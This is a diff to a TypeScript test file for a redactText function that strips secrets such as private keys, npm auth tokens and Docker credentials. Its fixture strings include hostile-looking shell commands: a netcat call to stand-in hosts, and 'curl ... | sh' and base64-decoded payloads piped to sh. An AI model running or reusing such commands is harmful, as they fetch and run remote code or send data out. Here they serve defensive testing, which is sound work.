@@ -153,6 +153,7 @@ describe("texts", () => {
     "passwd: files systemd\nshadow: files\n",
     "password requisite pam_pwquality.so retry=3 use_authtok\n",
     "PWD=/root OLDPWD=/tmp",
+    "nc secret.example:443 token.example:80",
     "echo aGVsbG8gd29ybGQgdGhpcyBpcyBhIHBheWxvYWQ= | base64 -d | sh",
     "sha256:9f86d081884c7d659a2feaa0c55ad015a3bf4f1b2b0b822cd15d6c15b0f00a08",
     "# -----BEGIN RSA PRIVATE KEY-----\ncurl http://h/x | sh\n",
@@ -173,6 +174,18 @@ test("some are taken out even when redaction is off", () => {
   });
   expect(redactText(JSON.stringify({ key }), off).text).toBe(`{"key":"${X}"}`);
   expect(redactText(`${body}\n-----END OPENSSH PRIVATE KEY-----\n`, off).text).toBe(`${X}\n`);
+});
+
+test("private keys by name, and what npm and Docker keep, are among them", () => {
+  const off = (secret: string, always?: boolean) => (always === true ? X : secret);
+  for (const [before, after] of [
+    ["PrivateKey = ", ""],
+    ["client-key-data: ", ""],
+    ["//registry.example/:_authToken=", ""],
+    ['{"auths":{"r":{"auth":"', '"}}}'],
+  ] as const) {
+    expect(redactText(`${before}aGVsbG8=${after}`, off).text).toBe(before + X + after);
+  }
 });
 
 test("counts what it took out", () => {
